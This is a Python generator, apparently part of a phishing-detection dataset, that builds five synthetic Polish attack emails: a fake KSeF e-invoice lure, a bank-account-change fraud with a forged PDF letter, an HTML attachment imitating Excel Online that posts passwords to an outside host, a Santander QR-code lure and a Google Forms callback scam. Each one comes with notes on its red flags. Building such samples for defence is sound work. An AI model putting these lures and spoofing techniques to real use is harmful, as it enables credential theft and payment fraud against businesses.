"""Attack messages, Polish (22-26)."""
from lib.kit import (message, outlook_html, finalize_html, gmail_html, html_escape, quote_plain, outlook_body,
                     outlook_quote, gmail_body, tb_body)
from lib import systems as S, world as W, ident as I, docs, office, mime, png
from lib.mime import Part
from lib.util import at, plus, rfc_date, rhex, rstr, ruuid, rb64url, ALNUM

P = W.PARTNER


# ---------------------------------------------------------------------------------------------
@message("attack", "22-pl-ksef-phishing-mailchimp")
def a22(m):
    r = m.r
    t = at(2026, 11, 18, 8, 12, 40, zone="PL")
    base = "https://biurokaczmarek.us14.list-manage.com/track/click?u=%s&id=%s&e=%s"
    u, e = rhex(r, 25), rhex(r, 10)
    link = base % (u, rhex(r, 10), e)
    ksef = "%s-20261117-%s-%s" % (P["nip"], rhex(r, 12).upper(), rhex(r, 2).upper())
    text = ("Krajowy System e-Faktur (KSeF)\n\n"
            "Szanowni Państwo,\n\n"
            "w Krajowym Systemie e-Faktur udostępniono Państwu fakturę ustrukturyzowaną:\n\n"
            "Numer faktury: FV/2026/11/0847\nNumer KSeF: %s\nSprzedawca: PARTNER LOGISTIK SP. Z O.O. (NIP %s)\n"
            "Nabywca: EXAMPLE GROUP POLSKA SP. Z O.O.\nKwota brutto: 48 933,60 PLN\n\n"
            "W związku z wdrożeniem nowych zasad bezpieczeństwa KSeF 2.0 odbiorca faktury jest zobowiązany do "
            "jednorazowej weryfikacji uprawnień w ciągu 48 godzin. Po tym czasie dostęp do faktur zakupowych zostanie "
            "zawieszony do czasu ponownego nadania uprawnień.\n\n"
            "Zweryfikuj dostęp i pobierz fakturę: %s\n\n"
            "Logowanie możliwe jest za pomocą Profilu Zaufanego, certyfikatu KSeF lub danych do bankowości "
            "elektronicznej.\n\nMinisterstwo Finansów - Krajowa Administracja Skarbowa\n"
            "Wiadomość wygenerowana automatycznie, prosimy na nią nie odpowiadać.\n" % (ksef, P["nip"], link))
    htm = ('<!doctype html><html><head><meta charset="UTF-8"></head><body style="margin:0;background:#f2f2f2">'
           '<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,'
           'sans-serif;font-size:14px;color:#1a1a1a"><tr><td style="background:#b7122b;color:#fff;padding:16px 24px;font-size:18px">'
           '<b>KSeF</b> &nbsp;Krajowy System e-Faktur</td></tr><tr><td style="padding:24px">' +
           "".join("<p>%s</p>" % "<br>".join(html_escape(x) for x in p.split("\n")) for p in text.split("\n\n")[1:5]) +
           '<p style="text-align:center"><a href="%s" style="background:#1d4ed8;color:#fff;padding:12px 26px;text-decoration:none">'
           'Zweryfikuj dostęp i pobierz fakturę</a></p>' % link +
           "".join("<p>%s</p>" % "<br>".join(html_escape(x) for x in p.split("\n")) for p in text.split("\n\n")[6:]) +
           '</td></tr><tr><td style="padding:12px 24px;font-size:11px;color:#777">Ten e-mail został wysłany do '
           'katarzyna.kowalczyk@example.com. <a href="https://biurokaczmarek.us14.list-manage.com/unsubscribe?u=%s&id=%s&e=%s">'
           'Wypisz się</a></td></tr></table><img src="https://biurokaczmarek.us14.list-manage.com/track/open.php?u=%s&id=%s&e=%s" '
           'width="1" height="1" alt=""></body></html>' % (u, rhex(r, 10), e, u, rhex(r, 10), e))
    root = m.multi("alternative", [m.text(text, "utf-8", "quoted-printable"), m.html(htm, "utf-8", "quoted-printable")],
                   style="mc")
    ctx = m.ctx(t, ("KSeF - Ministerstwo Finansów", "biuro@biuro-kaczmarek.pl"), [W.st("katarzyna")],
                "KSeF: udostępniono fakturę FV/2026/11/0847 - wymagana weryfikacja odbiorcy w ciągu 48 h", root, zone="PL")
    res = S.mailchimp(ctx, dc="us14", dkim_dom="biuro-kaczmarek.pl",
                      unsub_base="https://biurokaczmarek.us14.list-manage.com", u=u, eid=e)
    m.facts(url=[link])
    m.describe("KSeF (national e-invoicing) phishing sent through a compromised Mailchimp account of an accounting "
               "office: a 'structured invoice' from the real logistics partner must be 'verified within 48 h' via a "
               "tracked link to a fake login (Profil Zaufany / bank credentials).",
               "Display name 'KSeF - Ministerstwo Finansów' on biuro-kaczmarek.pl via Mailchimp (checks pass for that "
               "domain); KSeF does not e-mail verification requests, access is through the taxpayer's own KSeF "
               "tools; 48-hour suspension threat; invoice details plausibly copied from the partner's real invoicing.",
               pair="B22 (genuine Partner Logistik invoice with KSeF number and QR), B14 (genuine Mailchimp newsletter)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "23-pl-partner-logistik-lookalike-zmiana-rachunku")
def a23(m):
    r = m.r
    t = at(2026, 11, 24, 13, 37, 9, zone="PL")
    mule = I.make_iban("PL", I.pl_sortcode("249", "1041") + "0000990102784133")
    letter = ("Szanowni Państwo,\n\n"
              "uprzejmie informujemy, że w związku z konsolidacją obsługi bankowej grupy z dniem 24.11.2026 r. "
              "Partner Logistik sp. z o.o. zmienia rachunek bankowy do rozliczeń z kontrahentami.\n\n"
              "Nowy rachunek: %s\nBank: Alior Bank S.A.\nWłaściciel: Partner Logistik sp. z o.o., ul. Polska 13, 81-339 Gdynia\n\n"
              "Rachunek został zgłoszony do wykazu podatników VAT (biała lista); aktualizacja wykazu może potrwać do "
              "7 dni roboczych. Płatności w mechanizmie podzielonej płatności prosimy kierować na ten sam rachunek.\n\n"
              "Dotychczasowy rachunek w Banku Pekao S.A. zostaje zamknięty - wpłaty na ten rachunek będą zwracane."
              % " ".join(mule[i:i + 4] for i in range(0, 28, 4)))
    pdfb = docs.letter_pdf(m, "Partner Logistik", ["Partner Logistik sp. z o.o.", "ul. Polska 13", "81-339 Gdynia",
                                                   "NIP %s" % P["nip"], "KRS %s" % P["krs"]],
                           ["Example Group Polska sp. z o.o.", "Dział Księgowości", "ul. Na Ostrowiu 15", "80-958 Gdańsk"],
                           "Gdynia, 23.11.2026", "Informacja o zmianie rachunku bankowego", letter,
                           ["Z poważaniem", "", "Tadeusz Zieliński", "Prezes Zarządu"],
                           [["Partner Logistik sp. z o.o.", "ul. Polska 13, 81-339 Gdynia"],
                            ["Sąd Rejonowy Gdańsk-Północ, VIII Wydział KRS", "KRS %s, NIP %s" % (P["krs"], P["nip"])]],
                           t, 60, creator="Microsoft® Word dla Microsoft 365", producer="Microsoft® Word dla Microsoft 365",
                           color=(200, 60, 20), lang="pl-PL", stamp=["PARTNER LOGISTIK SP. Z O.O.", "ul. Polska 13",
                                                                       "81-339 Gdynia, NIP %s" % P["nip"]])
    text = ("Dzień dobry Pani Katarzyno,\n\n"
            "w załączeniu przesyłam pismo dotyczące zmiany naszego rachunku bankowego. Bardzo proszę o aktualizację "
            "danych w systemie przed płatnością za fakturę FV/2026/11/0847 (48 933,60 zł), której termin mija w piątek.\n\n"
            "Rachunek jest już zgłoszony do białej listy, aktualizacja w wykazie potrwa kilka dni - proszę się nie "
            "sugerować, jeżeli przy weryfikacji jeszcze go nie będzie. Księgowość jest w tym tygodniu na szkoleniu, "
            "dlatego proszę o kontakt mailowy bezpośrednio ze mną.\n\n"
            "Z poważaniem\nTadeusz Zieliński\nPrezes Zarządu\nPartner Logistik sp. z o.o.\nul. Polska 13, 81-339 Gdynia\n"
            "tel. +48 58 621 77 40\n")
    root = m.multi("mixed", [
        m.multi("alternative", [m.text(text, "windows-1250", "quoted-printable"),
                                m.html(finalize_html(outlook_html(text, "PL"), "windows-1250"), "windows-1250", "quoted-printable")],
                style="generic", level=1),
        m.attach(pdfb, "application/pdf", "Pismo - zmiana rachunku bankowego.pdf", fstyle="windows-1250:Q")], style="generic")
    ctx = m.ctx(t, ("Tadeusz Zieliński", "t.zielinski@partnerlogistik.pl"), [W.st("katarzyna")],
                "Zmiana rachunku bankowego - Partner Logistik", root, zone="PL", subj_cs="windows-1250", subj_enc="Q")
    mua = S.outlook_smtp_mua(ctx, "pl")
    res = S.cpanel(ctx, "s58.cyber-folks.pl", "195.78.66.58", mode="smtp", client=("[192.168.1.5]", "146.70.124.82"),
                   dkim_dom="partnerlogistik.pl", mua=mua, dmarc=("pass", "none"), domain_for_abuse="partnerlogistik.pl")
    m.facts(iban=[mule])
    m.phone("+48 58 621 77 40")
    m.describe("Bank-detail change from a look-alike of the logistics partner (partnerlogistik.pl without hyphen): a "
               "signed-looking letter moves payment of a PLN 48,933.60 invoice to an Alior Bank account.",
               "Look-alike domain on shared hosting (checks pass for it), sent from a VPN address; pre-empts the Polish "
               "white-list (biała lista) check by claiming the account is 'still being added'; discourages contacting "
               "the partner's accounting; old account 'closed' — contradicts the partner's genuine announcement.",
               pair="B23 (genuine bank change by Partner Logistik)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "24-pl-zapytanie-ofertowe-html-wp")
def a24(m):
    r = m.r
    t = at(2026, 10, 8, 10, 26, 51, zone="PL")
    victim = W.st("agnieszka")
    action = "https://ofertowe-dokumenty.pl-cdn.net/o/auth.php"
    att = ('<!DOCTYPE html>\n<html lang="pl"><head><meta charset="utf-8"><title>Excel Online - ZO_45_2026.xlsx</title>\n'
           '<style>body{font-family:"Segoe UI",Arial;margin:0;background:#e9e9e9}.bar{background:#107c41;color:#fff;padding:10px 16px;'
           'font-size:15px}.grid{filter:blur(3px);opacity:.6;margin:20px}.grid td{border:1px solid #ccc;width:110px;height:22px}'
           '.dlg{position:absolute;top:120px;left:50%;margin-left:-190px;width:380px;background:#fff;padding:28px;'
           'box-shadow:0 4px 14px rgba(0,0,0,.3)}input{width:100%;padding:7px;margin:6px 0 14px;border:1px solid #999}'
           'button{background:#107c41;color:#fff;border:0;padding:9px 24px}</style></head>\n<body>\n'
           '<div class="bar">Excel Online &nbsp;|&nbsp; ZO_45_2026_specyfikacja.xlsx</div>\n'
           '<table class="grid">' + "".join("<tr>" + "<td></td>" * 8 + "</tr>" for _ in range(14)) + '</table>\n'
           '<div class="dlg"><b>Dokument jest chroniony</b><p style="font-size:13px">Aby wyświetlić zapytanie ofertowe, '
           'zaloguj się kontem służbowym.</p>\n<form method="post" action="%s">\n'
           '<input type="email" name="email" value="%s">\n<input type="password" name="haslo" placeholder="Hasło">\n'
           '<button type="submit">Wyświetl dokument</button></form></div>\n</body></html>\n' % (action, victim[1]))
    text = ("Dzień dobry,\n\n"
            "w imieniu Zakładu Usług Portowych Bałtyk-Serwis sp. z o.o. zapraszamy do złożenia oferty na wykonanie robót "
            "czerpalnych (pogłębienie basenu portowego przy nabrzeżu Rybackim w Ustce, ok. 38 000 m3 urobku, "
            "odkład na klapowisko).\n\n"
            "Szczegółowa specyfikacja, przedmiar i wzór umowy znajdują się w załączonym pliku (ZO nr 45/2026). "
            "Termin składania ofert: 19.10.2026 r.\n\n"
            "Prosimy o potwierdzenie otrzymania zapytania.\n\n"
            "Z poważaniem\nJerzy Sikora\nspecjalista ds. zakupów\nZUP Bałtyk-Serwis sp. z o.o.\ntel. +48 59 814 27 63\n")
    root = m.multi("mixed", [m.text(text, "iso-8859-2", "quoted-printable"),
                             m.attach(att.encode("utf-8"), "text/html", "ZO_45_2026_specyfikacja.html")], style="java")
    ctx = m.ctx(t, ("Jerzy Sikora", "jerzy.sikora.zup@wp.pl"), [victim],
                "Zapytanie ofertowe nr ZO/45/2026 - roboty czerpalne Ustka", root, zone="PL", subj_cs="iso-8859-2", subj_enc="Q")
    res = S.wp(ctx, client_ip="83.24.151.203")
    m.facts(url=[action])
    m.phone("+48 59 814 27 63")
    m.describe("Fake request for quotation (dredging job in Ustka) with an HTML attachment that imitates Excel Online and "
               "asks for the company password to 'view' the specification.",
               "Sent from a WP.pl free-mail account of an unverifiable 'port services' firm; the .html attachment is a "
               "local phishing form posting to ofertowe-dokumenty.pl-cdn.net with the victim's address pre-filled; real "
               "tenders arrive via procurement platforms with documents, not login forms.",
               pair="B24 (genuine tender notification from platformazakupowa.pl), B26 (genuine customer order)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "25-pl-quishing-bank-inline-qr")
def a25(m):
    r = m.r
    t = at(2026, 12, 7, 7, 49, 3, zone="PL")
    target = "https://ibiznes24-autoryzacja.com/m/%s" % rb64url(r, 12)
    qrpng = m.qr_png(target, scale=5)
    cid = "qr_%s@santander-ibiznes24.com" % rhex(r, 8)
    htm = ('<!DOCTYPE html><html lang="pl"><head><meta charset="iso-8859-2"></head><body style="margin:0;background:#f4f4f4">'
           '<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Arial,'
           'sans-serif;font-size:14px;color:#222"><tr><td style="background:#ec0000;color:#fff;padding:18px 24px;'
           'font-size:20px"><b>Santander</b> <span style="font-size:14px">iBiznes24</span></td></tr><tr><td style="padding:24px">'
           '<p>Szanowna Pani,</p><p>w związku z aktualizacją zabezpieczeń aplikacji <b>iBiznes24 mobile</b> (wymogi PSD3) '
           'konieczna jest ponowna autoryzacja urządzenia mobilnego powiązanego z Pani identyfikatorem. Bez autoryzacji '
           'od dnia <b>09.12.2026</b> zlecenia przelewów wymagające Pani akceptacji nie będą realizowane.</p>'
           '<p>Aby autoryzować urządzenie, zeskanuj poniższy kod QR aparatem telefonu i postępuj zgodnie z instrukcjami:</p>'
           '<p style="text-align:center"><img src="cid:%s" width="215" height="215" alt="kod QR"></p>'
           '<p style="font-size:12px;color:#666">Kod jest ważny 24 godziny. Ze względów bezpieczeństwa nie przekazuj go innym '
           'osobom.</p><p>Z poważaniem<br>Zespół Bankowości Elektronicznej iBiznes24</p></td></tr>'
           '<tr><td style="padding:12px 24px;font-size:11px;color:#888">Santander Bank Polska S.A., al. Jana Pawła II 17, '
           '00-854 Warszawa. Wiadomość wygenerowana automatycznie.</td></tr></table></body></html>' % cid)
    rel = m.multi("related", [m.html(htm, "iso-8859-2", "quoted-printable"),
                              m.attach(qrpng, "image/png", "kod_autoryzacji.png", disposition="inline", cid=cid)],
                  style="java")
    ctx = m.ctx(t, ("Santander iBiznes24", "powiadomienia@santander-ibiznes24.com"), [W.st("katarzyna")],
                "iBiznes24: wymagana ponowna autoryzacja urządzenia mobilnego do 09.12.2026", rel, zone="PL",
                subj_cs="iso-8859-2", subj_enc="B")
    res = S.ses(ctx, "eu-central-1", mail_from_dom="bounce.santander-ibiznes24.com")
    m.describe("Quishing against the corporate banking portal: 'Santander iBiznes24' asks the accountant to re-authorise "
               "her mobile device by scanning an inline QR code, otherwise transfers stop on 09.12.",
               "Look-alike sender domain santander-ibiznes24.com via Amazon SES (checks pass for it); the only 'link' is a "
               "QR image (cid: inline PNG) pointing to ibiznes24-autoryzacja.com, invisible to URL scanners; invented "
               "'PSD3' pretext and deadline; banks never ask to scan QR codes from e-mails.",
               pair="B25 (genuine Santander maintenance notice), B05 (genuine house-bank notice)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "26-pl-google-forms-callback")
def a26(m):
    r = m.r
    t = at(2026, 11, 13, 14, 22, 56, zone="PL")
    fid = "1FAIpQL" + rb64url(r, 36)
    edit = "https://docs.google.com/forms/d/e/%s/viewform?edit2=2_ABaOnud%s" % (fid, rb64url(r, 60))
    create = "https://docs.google.com/forms?usp=mail_form_submittsd"
    phone = "+48 22 307 44 18"
    title = "Potwierdzenie zamówienia nr 4471/PL/2026 - faktura pro forma 4 899,00 PLN"
    desc = ("Dziękujemy za zamówienie licencji Microsoft 365 Business Premium (12 stanowisk, 12 miesięcy). Kwota 4 899,00 PLN "
            "zostanie pobrana z Państwa rachunku w ciągu 24 godzin. Jeżeli nie składali Państwo tego zamówienia, "
            "prosimy o pilny kontakt z działem rozliczeń: %s (pon.-sob. 8:00-20:00) w celu anulowania transakcji." % phone)
    text = ("Dziękujemy za wypełnienie formularza %s\n\nOto, co otrzymaliśmy:\n\n%s\n\n%s\n\n"
            "Adres e-mail *\nagnieszka.wojcik@example.com\n\nNumer zamówienia\n4471/PL/2026\n\n"
            "Edytuj odpowiedź: %s\n\nUtwórz własny formularz Google: %s\n"
            "Ten formularz został utworzony poza Twoją domeną. Zgłoś nadużycie - Warunki korzystania z usługi - "
            "Polityka prywatności\n" % (title, title, desc, edit, create))
    htm = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body style="font-family:Roboto,'
           'Arial,sans-serif;background-color:#ede7f6"><div style="max-width:640px;margin:0 auto"><div style="background:#fff;'
           'border-radius:8px;border-top:10px solid #673ab7;padding:24px;margin-top:12px"><div style="font-size:14px;color:#202124">'
           'Dziękujemy za wypełnienie formularza <b>%s</b></div><div style="font-size:14px;color:#202124;margin-top:12px">'
           'Oto, co otrzymaliśmy:</div></div><div style="background:#fff;border-radius:8px;padding:24px;margin-top:12px">'
           '<div style="font-size:24px;color:#202124">%s</div><div style="font-size:14px;color:#202124;margin-top:12px">%s</div>'
           '</div><div style="background:#fff;border-radius:8px;padding:24px;margin-top:12px"><div style="font-size:16px">'
           'Adres e-mail <span style="color:#d93025">*</span></div><div style="margin-top:8px;border-bottom:1px solid #dadce0">'
           'agnieszka.wojcik@example.com</div></div><div style="background:#fff;border-radius:8px;padding:24px;margin-top:12px">'
           '<div style="font-size:16px">Numer zamówienia</div><div style="margin-top:8px;border-bottom:1px solid #dadce0">'
           '4471/PL/2026</div></div><div style="margin-top:16px"><a href="%s" style="background:#673ab7;color:#fff;'
           'padding:10px 24px;border-radius:4px;text-decoration:none">Edytuj odpowiedź</a></div>'
           '<div style="font-size:12px;color:#5f6368;margin:24px 0"><a href="%s" style="color:#5f6368">Utwórz własny formularz '
           'Google</a><br>Ten formularz został utworzony poza Twoją domeną.</div></div></body></html>'
           % (html_escape(title), html_escape(title), html_escape(desc), edit, create))
    root = m.multi("alternative", [m.text(text, "UTF-8", "quoted-printable", style="gmail"),
                                   m.html(htm, "UTF-8", "quoted-printable", style="gmail")], style="gmail")
    ctx = m.ctx(t, ("Formularze Google", "forms-receipts-noreply@google.com"), [W.st("agnieszka")],
                "Dziękujemy za wypełnienie formularza %s" % title, root, zone="PL")
    ctx.env_from = "3%s@forms.bounces.google.com" % rstr(r, 40, ALNUM)
    ctx.msgid = "<%s@google.com>" % rhex(r, 28)
    mua = [("Reply-To", "Formularze Google <forms-receipts-noreply@google.com>"),
           ("Date", ctx.date()), ("Message-ID", ctx.msgid), ("Subject", ctx.subj()), ("From", ctx.from_h()),
           ("To", ctx.to_h()), ("__MIME__", None)]
    res = S.gmail(ctx, host_kind=("sor", "209.85.220."), mua=mua, dkim_dom="google.com", service=True)
    m.facts(url=[edit, create])
    m.phone(phone)
    m.describe("Callback lure abusing Google Forms response receipts: the form title/description claim a PLN 4,899 "
               "Microsoft 365 order and urge the recipient to phone a 'billing department' to cancel.",
               "Genuine Google infrastructure (forms-receipts-noreply@google.com, DKIM google.com pass) — the attacker "
               "simply filled in their own form with the victim's address and 'send me a copy'; the payload is the "
               "phone number; Google itself notes the form was created outside the domain.",
               pair="B13 (genuine invoice with a phone number)")
    return m.finish(ctx, res)
